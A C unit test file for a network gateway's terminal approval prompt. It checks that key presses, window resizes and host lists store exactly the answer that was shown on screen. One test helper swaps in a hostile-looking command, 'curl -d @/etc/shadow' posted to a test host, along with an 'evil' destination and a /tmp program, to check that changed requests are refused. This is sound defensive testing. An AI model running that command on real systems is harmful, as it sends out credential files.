/* The contract of the terminal and of a window of tmux: whatever is typed, in whichever order, in a
 * window of whatever size, what Enter stores is what stood on the screen. Nothing of the approver
 * is looked into: keys go in, and a model of the screen is compared with what the gateway was
 * given. */
#include "tests/unit/gateway/approvers/screen/test_approver_screen.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>

#include "base/mem.h"
#include "tests/unit/gateway/approvers/test_approver_model.h"

static const struct winsize sizes[] = {
	{ .ws_col = 40, .ws_row = 12 },
	{ .ws_col = 80, .ws_row = 24 },
	{ .ws_col = 120, .ws_row = 40 },
	{ .ws_col = 67, .ws_row = 17 },
};
#define SIZES ((int)ARRAY_SIZE(sizes))

/* The scope's keys and the letters: each sequence of up to three. */
static const char scope_keys[] = "hptboyesanESDq";
/* The others, for sequences of two and for walks. */
static const char all_keys[] = "hptboyesanESDqlr?x*AgvjkdYN1 9\x7f\x1b\r\x04\x1a";

static struct model model;
static unsigned int asked;              /* numbers the questions */
static struct approver_question walked; /* the one that is walked over */
static unsigned int compared;           /* answers, with what was shown */

static void look(void)
{
	model_feed(&model, screen_look());
}

static void set_size(int i)
{
	ck_assert_int_eq(ioctl(screen.slave, TIOCSWINSZ, &sizes[i]), 0);
	model_init(&model, sizes[i].ws_col, sizes[i].ws_row);
}

static struct approver_question *ask(const char *host, const char *typed, unsigned int risk)
{
	struct approver_question *question = &screen.gw.questions[screen.gw.question_count++];

	*question = (struct approver_question){
		.dst = { .protocol = POLICY_HTTPS, .port = 443 },
		.waiting = 1,
		.command_count = 1,
		.commands = { "curl -sS https://example.org/" },
		.rule = "",
		.because = "",
		.warning = risk ? "never allowed before on this machine" : "",
		.risk = risk,
		.program = "/usr/bin/curl",
		.chain = "sh > curl",
		.left_ms = 299000,
		.is_shared = true,
	};
	(void)snprintf(question->id, sizeof(question->id), "7f3a-%u", ++asked);
	(void)snprintf(question->dst.host, sizeof(question->dst.host), "%s", host);
	(void)snprintf(question->typed, sizeof(question->typed), "%s", typed);
	return question;
}

/* It is on the screen, and keys count. */
static void open_keys(void)
{
	screen.gw.answer_count = 0;
	screen.gw.ops->ask(screen.gw.approver, &screen.gw.questions[0]);
	screen_come();
	screen_type(SCREEN_READY); /* to the fence */
	loop_advance(screen.gw.loop, TTY_GUARD_MS);
}

/* Whatever is left: Ctrl-C denies, and the screen is empty again. */
static void close_keys(void)
{
	look(); /* or what was written fills the terminal, and it is not given back yet */
	for (int i = 0; i < 100 && screen.gw.question_count > 0; i++) {
		screen_type("\x03");
		if (screen.gw.question_count == 0)
			break;
		loop_advance(screen.gw.loop, TTY_FENCE_MS);
		loop_advance(screen.gw.loop, TTY_GUARD_MS);
		look(); /* or the terminal fills up */
	}
	ck_assert_uint_eq(screen.gw.question_count, 0);
	ck_assert_uint_eq(screen.held, screen.released);
}

/* Behind "answer, then Enter: ", or 0. */
static char shown_letter(const struct model *shown)
{
	static const char label[] = "  answer, then Enter: ";
	char row[MODEL_WIDTH_MAX + 1];

	for (unsigned int y = shown->rows; y-- > 0;) {
		if (model_row(shown, y, row)[0] == '\0')
			continue;
		return strncmp(row, label, strlen(label)) == 0 ? row[strlen(label)] : '\0';
	}
	return '\0';
}

/* A space at the end of a line is none that the model could tell. */
static bool is_same(const char *shown, const char *stored)
{
	for (;; shown++, stored++) {
		shown += strspn(shown, " ");
		stored += strspn(stored, " ");
		if (*shown != *stored || *shown == '\0')
			return *shown == *stored;
	}
}

/* What the screen says of the answer, whatever it calls it before the key is pressed. */
static void shown_text(const struct model *before, bool is_allow, char *out, size_t size)
{
	static const char *const labels[] = { "grants", "denies", "covers" };

	for (size_t i = 0; i < (is_allow ? 1 : ARRAY_SIZE(labels)); i++) {
		if (model_field(before, labels[i], out, size)[0] != '\0')
			return;
	}
}

/* What stood on the screen before the last key, and what was stored with it. A denial for once
 * stores nothing, and may come by n, by q, by Ctrl-C and by Enter alone; one that is stored needs
 * no Enter. What is a real risk was typed. */
static void must_be_as_shown(const struct model *before, const char *keys)
{
	static const enum gateway_scope scopes[] = { GATEWAY_ONCE, GATEWAY_EXEC, GATEWAY_SESSION,
						     GATEWAY_ALWAYS };
	const struct approver_answer *answer = &screen.gw.answers[0].answer;
	bool is_allow = answer->action == POLICY_ALLOW;
	const char *letters = is_allow ? "yesa" : "nESD", *text = screen.gw.answers[0].text;
	char field[APPROVER_KEY_MAX], letter[] = { shown_letter(before), '\0' };
	size_t at = strcspn(letters, letter);

	ck_assert_uint_le(screen.gw.answer_count, 1);
	if (screen.gw.answer_count == 0 || (!is_allow && answer->scope == GATEWAY_ONCE))
		return;
	if (gateway_typed_because(&walked, answer))
		ck_assert_msg(answer->typed && strcmp(answer->typed, "look.test") == 0,
			      "%s: allowed untyped", keys);
	shown_text(before, is_allow, field, sizeof(field));
	ck_assert_msg(is_same(field, text), "%s: shown \"%s\", stored \"%s\"", keys, field, text);
	if (!is_allow) {
		for (at = 0; scopes[at] != answer->scope;)
			at++;
		ck_assert_msg(strchr(keys, letters[at]), "%s: stored scope %d", keys,
			      answer->scope);
	} else {
		ck_assert_msg(letter[0] != '\0' && at < ARRAY_SIZE(scopes) &&
				      scopes[at] == answer->scope,
			      "%s: shown \"%s\", stored scope %d", keys, letter, answer->scope);
	}
	compared++;
}

/* Where it is wanted. The letter made place for the domain; the rest stands there still. */
static void type_domain(const char *keys)
{
	char type[64], grants[APPROVER_KEY_MAX];
	struct model before;

	look();
	(void)model_field(&model, "type", type, sizeof(type));
	if (type[0] == '\0')
		return;
	ck_assert_str_eq(type, "look.test");
	screen_type_at_once("look.test");
	look();
	before = model;
	screen_type("\r");
	if (screen.gw.answer_count == 0)
		return;
	ck_assert_int_eq(screen.gw.answers[0].answer.action, POLICY_ALLOW);
	ck_assert_msg(gateway_typed_because(&walked, &screen.gw.answers[0].answer) != NULL,
		      "%s: typed for nothing", keys);
	(void)model_field(&before, "grants", grants, sizeof(grants));
	ck_assert(is_same(grants, screen.gw.answers[0].text));
	compared++;
}

/* One question. @keys one after the other, then Enter, and the domain where it is wanted. False:
 * the keys alone answered it, so more of them would change nothing. */
static bool walk(const char *host, unsigned int risk, const char *keys, bool is_at_once)
{
	struct model before;
	size_t count = strlen(keys);

	walked = *ask(host, "look.test", risk);
	open_keys();
	for (size_t i = 0; !is_at_once && i < count && screen.gw.answer_count == 0; i++) {
		char key[] = { keys[i], '\0' };

		if (strchr("\rESD", keys[i])) /* which may answer */
			look();
		before = model;
		screen_type(key);
	}
	bool is_open = screen.gw.answer_count == 0;

	if (is_open) {
		look();
		before = model;
	}
	if (is_at_once && count > 0) {
		auto_free char *whole = mem_printf("%s\r", keys);

		screen_type_at_once(whole);
	} else if (screen.gw.answer_count == 0) {
		screen_type("\r");
	}
	must_be_as_shown(&before, keys);
	if (screen.gw.answer_count == 0)
		type_domain(keys);
	if (screen.gw.question_count > 0)
		screen.gw.answer_count = 0;
	close_keys();
	return is_open;
}

#define FIRSTS ((int)strlen(scope_keys))

/* `./dev test --quick` presses fewer. */
static bool is_quick(void)
{
	return getenv("TEST_QUICK") != NULL;
}

/* All sequences that begin with @first, of @length at most. Some of them store an answer, unless
 * nothing of them was seen. */
static void walk_all(unsigned int risk, char first, unsigned int length, bool is_at_once)
{
	char keys[4] = { first, '\0' };

	compared = 0;
	screen.gw.takes_budgets = true;
	if (!walk("a.look.test", risk, keys, is_at_once))
		return;
	for (const char *two = scope_keys; length > 1 && *two; two++) {
		keys[1] = *two;
		keys[2] = '\0';
		if (!walk("a.look.test", risk, keys, is_at_once))
			continue;
		for (const char *three = scope_keys; length > 2 && *three; three++) {
			keys[2] = *three;
			(void)walk("a.look.test", risk, keys, is_at_once);
		}
	}
	/* q denies everything, for once. */
	ck_assert_msg(is_at_once || first == 'q' || compared > 0, "%c: no answer was compared",
		      first);
}

START_TEST(every_three_keys)
{
	set_size(1);
	walk_all(0, scope_keys[_i], is_quick() ? 2 : 3, false);
}
END_TEST

START_TEST(every_three_keys_of_what_warns)
{
	set_size(0);
	walk_all(APPROVER_LISTED, scope_keys[_i], is_quick() ? 2 : 3, false);
}
END_TEST

/* _i: the size. A case costs a process and a search for leaks: as much as its hundred walks. */
START_TEST(every_two_keys)
{
	set_size(_i);
	for (int i = is_quick() ? _i : 0; i < FIRSTS; i += is_quick() ? SIZES : 1) {
		walk_all(0, scope_keys[i], 2, false);
		walk_all(i % 2 == 0 ? APPROVER_FIRST_SEEN : APPROVER_LOOKALIKE, scope_keys[i], 2,
			 false);
	}
}
END_TEST

/* In one piece, with Enter: nothing of it was seen. */
START_TEST(every_two_keys_at_once)
{
	set_size(_i);
	for (int i = is_quick() ? _i : 0; i < FIRSTS; i += is_quick() ? SIZES : 1)
		walk_all(0, scope_keys[i], 2, true);
}
END_TEST

/* With every other key between them, over hosts that are short and long. */
START_TEST(walks_at_random)
{
	static const char *const hosts[] = {
		"a.look.test",
		"a-very-long-name-of-a-host-that-goes-on-and-on.and-on-and-on.look.test",
	};
	unsigned int seed = (unsigned int)_i + 1;

	screen.gw.takes_budgets = true;
	set_size(_i % SIZES);
	for (int i = 0; i < 30; i++) {
		char keys[16] = "";
		size_t count = 1 + (size_t)rand_r(&seed) % (sizeof(keys) - 2);

		for (size_t k = 0; k < count; k++)
			keys[k] = all_keys[(size_t)rand_r(&seed) % strlen(all_keys)];
		(void)walk(hosts[i % 2],
			   i % 3 == 0   ? APPROVER_LISTED
			   : i % 3 == 1 ? APPROVER_FIRST_SEEN
					: 0,
			   keys, i % 5 == 0);
	}
}
END_TEST

/* What changes between the drawing and Enter, untold. */
enum change { RISK, DOMAIN, DESTINATION, COMMANDS, COMMAND, PROGRAM, STORE, WIDTH, ROWS, CHANGES };

static void change(enum change what)
{
	struct approver_question *question = &screen.gw.questions[0];
	struct winsize size;

	ck_assert_int_eq(ioctl(screen.slave, TIOCGWINSZ, &size), 0);
	size.ws_col = (unsigned short)(size.ws_col - (what == WIDTH));
	size.ws_row = (unsigned short)(size.ws_row - (what == ROWS));
	ck_assert_int_eq(ioctl(screen.slave, TIOCSWINSZ, &size), 0);
	question->risk = what == RISK ? APPROVER_LISTED : 0;
	question->command_count += what == COMMANDS;
	screen.gw.salt = what == STORE ? " upload 1g" : NULL;
	if (what == DOMAIN)
		(void)snprintf(question->typed, sizeof(question->typed), "test");
	if (what == DESTINATION)
		(void)snprintf(question->dst.host, sizeof(question->dst.host), "evil.look.test");
	if (what == COMMAND)
		question->commands[0] = "curl -d @/etc/shadow https://a.look.test/";
	if (what == PROGRAM)
		question->program = "/tmp/curl";
}

START_TEST(changes_between_drawing_and_enter)
{
	enum change what = (enum change)(_i % CHANGES);

	set_size(1 + _i / CHANGES % 2);
	for (const char *letter = "yesaESD"; *letter; letter++) {
		bool is_allow = strchr("yesa", *letter);
		char key[] = { is_allow ? '\r' : *letter, '\0' };

		(void)ask("a.look.test", "look.test", 0);
		open_keys();
		screen_type("h");
		if (is_allow)
			screen_type((char[]){ *letter, '\0' });
		look();
		change(what);
		screen_type(key);
		ck_assert_uint_eq(screen.gw.answer_count, 0);
		screen_type(key); /* at once: it was not looked at */
		ck_assert_uint_eq(screen.gw.answer_count, 0);
		screen.gw.salt = NULL;
		set_size(1);
		close_keys();
	}
}
END_TEST

/* A denial for once is always taken, whatever changes and however small the window is. */
START_TEST(a_denial_is_always_possible)
{
	for (int i = 0; i < 20; i++) {
		struct winsize size = { .ws_col = (unsigned short)(5 + 10 * _i),
					.ws_row = (unsigned short)(1 + i / 2) };

		set_size(1);
		(void)ask("a.look.test", "look.test", i % 2 == 0 ? 0 : APPROVER_LISTED);
		ck_assert_int_eq(ioctl(screen.slave, TIOCSWINSZ, &size), 0);
		open_keys();
		screen_type("s\r");
		if (size.ws_col < TTY_WIDTH_LEAST || size.ws_row < 6)
			ck_assert_uint_eq(screen.gw.answer_count, 0);
		if (screen.gw.answer_count == 0)
			screen_type("\x7f\x7fn");
		ck_assert_uint_eq(screen.gw.answer_count, 1);
		(void)screen_look();
		screen.gw.question_count = 0;
	}
}
END_TEST

/* Enter alone denies only when nothing else came between. */
START_TEST(help_is_no_denial)
{
	(void)ask("a.look.test", "look.test", 0);
	set_size(_i);
	open_keys();
	screen_type("?");
	look();
	ck_assert_ptr_nonnull(strstr(screen.text, "any key: "));
	for (int i = 0; i < 8 && strstr(screen.text, "any key: "); i++) {
		screen_type("\r");
		look();
	}
	ck_assert_uint_eq(screen.gw.answer_count, 0);
	screen_type("\r?\x1b[A x\r");
	look();
	for (int i = 0; i < 8 && strstr(screen.text, "any key: "); i++) {
		screen_type("x");
		look();
	}
	ck_assert_uint_eq(screen.gw.answer_count, 0);
	screen_type("Z");
	look();
	ck_assert_ptr_nonnull(strstr(screen.text, "Z does nothing here"));
	screen_type("\x1a");
	look();
	ck_assert_ptr_nonnull(strstr(screen.text, "Ctrl-Z does nothing here"));
	screen_type("\r\r");
	ck_assert_uint_eq(screen.gw.answer_count, 1);
	close_keys();
}
END_TEST

#define LIST_ROWS 20

static void see_row(unsigned int host, bool is_ticked, bool ticked[LIST_ROWS + 1],
		    bool seen[LIST_ROWS + 1])
{
	if (host > LIST_ROWS)
		return;
	seen[host] = true;
	ticked[host] = is_ticked;
}

/* Which of them stand on the screen ticked; what is not on it keeps what was last seen. A line is
 * one host, or the heading of a domain, or hosts below one: "https://{h1,h4}.d1.test:443". */
static void see_rows(bool ticked[LIST_ROWS + 1], bool seen[LIST_ROWS + 1])
{
	char row[MODEL_WIDTH_MAX + 1], tick, mark[4];
	bool is_ticked = false, has_head = false;
	unsigned int number, host;

	for (unsigned int y = 0; y < model.rows; y++) {
		const char *hosts = strstr(model_row(&model, y, row), "://");

		if (sscanf(row + 1, "%u [%c]%4c", &number, &tick, mark) == 3) {
			is_ticked = tick == 'x';
			has_head = true;
		} else if (strncmp(row, "      ", 6) != 0) {
			has_head = false;
		}
		if (!has_head || !hosts)
			continue;
		hosts += hosts[3] == '{' ? 4 : 3;
		do {
			hosts += *hosts == ',';
			if (sscanf(hosts, "h%u", &host) == 1)
				see_row(host, is_ticked, ticked, seen);
			hosts += strcspn(hosts, ",}");
		} while (*hosts == ',');
	}
}

/* Many at once: those that are answered are exactly those that were last seen ticked. */
START_TEST(lists_at_random)
{
	static const char keys[] = "  **AgjjjjkkvrE19ysnSDh\x7f?";
	unsigned int seed = (unsigned int)_i + 1;

	for (int i = 0; i < 12; i++) {
		bool ticked[LIST_ROWS + 1] = { false }, seen[LIST_ROWS + 1] = { false };
		unsigned int rows = i % 2 == 0 ? 8 : LIST_ROWS;

		set_size(_i % SIZES);
		for (unsigned int n = 1; n <= rows; n++) {
			auto_free char *host = mem_printf("h%u.d%u.test", n, n % 3);
			auto_free char *domain = mem_printf("d%u.test", n % 3);

			(void)ask(host, domain,
				  n % 7 == 6   ? APPROVER_LISTED
				  : n % 5 == 0 ? APPROVER_FIRST_SEEN
					       : 0);
		}
		open_keys();
		look();
		see_rows(ticked, seen);
		for (int k = 0; k < 14 && screen.gw.answer_count == 0; k++) {
			char key[2] = { keys[(size_t)rand_r(&seed) % strlen(keys)], '\0' };

			if (k % 5 == 4)
				key[0] = '\r';
			screen_type(key);
			if (screen.gw.answer_count > 0)
				break;
			look();
			see_rows(ticked, seen);
			ck_assert_uint_eq(screen.gw.question_count, rows);
		}
		/* One that is viewed is answered alone, and was the title of the page. */
		for (size_t a = 0; a < screen.gw.answer_count && screen.gw.answer_count > 1; a++) {
			unsigned int host = 0;

			ck_assert_int_eq(sscanf(screen.gw.answers[a].text, "https://h%u.", &host),
					 1);
			ck_assert_msg(seen[host] && ticked[host], "h%u was not seen ticked", host);
			ticked[host] = false;
		}
		for (unsigned int n = 1; n <= rows && screen.gw.answer_count > 1; n++)
			ck_assert_msg(!ticked[n], "h%u was ticked and not answered", n);
		screen.gw.answer_count = 0;
		close_keys();
	}
}
END_TEST

/* Everything is ticked in one window, and never seen in the next. */
START_TEST(a_list_in_another_window)
{
	set_size(2);
	for (unsigned int n = 1; n <= LIST_ROWS; n++) {
		auto_free char *host = mem_printf("h%u.d%u.test", n, n % 3);

		(void)ask(host, "d.test", 0);
	}
	open_keys();
	screen_type("*s");
	look();
	set_size(_i % 2 == 0 ? 0 : 1);
	screen_type("\r");
	ck_assert_uint_eq(screen.gw.answer_count, 0);
	loop_advance(screen.gw.loop, TTY_GUARD_MS);
	screen_type("\r");
	ck_assert_uint_eq(screen.gw.answer_count, 0);
	look();
	if (_i % 2 != 0) /* in the lower window the note has no room */
		ck_assert_ptr_nonnull(strstr(screen.text, " was not on the screen as it is"));
	close_keys();
}
END_TEST

/* Many in the smallest: none is ticked unseen. */
START_TEST(a_list_in_a_small_window)
{
	set_size(0);
	for (unsigned int n = 1; n <= FAKE_QUESTIONS_MAX / 2; n++) {
		auto_free char *host = mem_printf("h%u.d.test", n);

		(void)ask(host, "d.test", 0);
	}
	open_keys();
	look();
	screen_type("*y\r");
	for (int i = 0; i < 8 && screen.gw.answer_count == 0; i++) {
		look(); /* a note took the room of what was selected: it is looked at again */
		screen_type("\r");
	}
	ck_assert_uint_gt(screen.gw.answer_count, 0);
	ck_assert_uint_lt(screen.gw.answer_count, FAKE_QUESTIONS_MAX / 2);
	close_keys();
}
END_TEST

/* In windows, too, each of which is another program that is started. */
static void add_all(TCase *tcase)
{
	tcase_set_timeout(tcase, 120);
	tcase_add_loop_test(tcase, every_two_keys, 0, SIZES);
	tcase_add_loop_test(tcase, every_two_keys_at_once, 0, SIZES);
	tcase_add_loop_test(tcase, walks_at_random, 0, 2 * SIZES);
	tcase_add_loop_test(tcase, changes_between_drawing_and_enter, 0, 2 * CHANGES);
	tcase_add_loop_test(tcase, a_denial_is_always_possible, 0, 5);
	tcase_add_loop_test(tcase, help_is_no_denial, 0, SIZES);
	tcase_add_loop_test(tcase, lists_at_random, 0, 3 * SIZES);
	tcase_add_loop_test(tcase, a_list_in_another_window, 0, 2);
	tcase_add_test(tcase, a_list_in_a_small_window);
}

/* On the terminal, and in windows of tmux. */
Suite *suite_tty_keys(void)
{
	Suite *suite = suite_create("tty-keys");
	TCase *terminal = tcase_create("tty-keys"), *window = tcase_create("tty-window-keys");

	tcase_add_checked_fixture(terminal, screen_setup, screen_teardown);
	tcase_add_checked_fixture(window, screen_setup_in_window, screen_teardown);
	tcase_add_loop_test(terminal, every_three_keys, 0, FIRSTS);
	tcase_add_loop_test(terminal, every_three_keys_of_what_warns, 0, FIRSTS);
	add_all(terminal);
	add_all(window);
	suite_add_tcase(suite, terminal);
	suite_add_tcase(suite, window);
	return suite;
}
